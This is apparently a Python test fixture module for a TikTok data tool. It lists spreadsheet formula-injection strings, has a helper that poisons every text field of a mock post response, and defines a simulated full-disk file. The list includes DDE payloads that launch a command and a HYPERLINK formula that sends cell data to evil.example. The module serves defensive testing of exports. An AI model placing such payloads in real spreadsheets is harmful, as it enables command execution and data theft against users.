"""Files that fail while a summary is written, and texts that a spreadsheet would run."""

import errno

from tests.support.payloads import Object, envelope, tiktok_post
from tikhub_mcp.posts.answer import Json

FORMULAS = [f"{start}1+1" for start in "=+-@\t\r\n＝＋－＠"] + [
    "  =1+1",
    "\u3000=1+1",
    "\xa0@SUM(1)",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    "cmd|' /C calc'!A0",
    "cmd|\0'/C calc'!A0",
    "\x00=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
]


def poisoned(text: str) -> Object:
    """An answer with the text in every field that is text."""
    keys = "uid unique_id sec_uid nickname account_region id_str title owner_nickname ratio"
    part = dict.fromkeys(keys.split(), text) | {"play_addr": {"url_list": [text]}, "cover": {"url_list": [text]}}
    texts = dict.fromkeys(("aweme_id", "desc", "content_desc"), text)
    post = tiktok_post(**texts, author=part, music=part, video=part, text_extra=[{"hashtag_name": text}])
    post["image_post_info"] = {"title": text, "images": [{}]}
    return envelope(post, request_id=text, message=text, router=text, cache_url=text, params={"share_url": text})


class Full:
    """A file on a disk that is full after so many writes."""

    def __init__(self, file: Json, writes: int) -> None:
        self.file, self.writes = file, writes

    def __getattr__(self, name: str) -> Json:
        return getattr(self.file, name)

    def write(self, content: bytes) -> Json:
        self.writes -= 1
        if self.writes < 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        return self.file.write(content[:1000])  # a short write is no failure
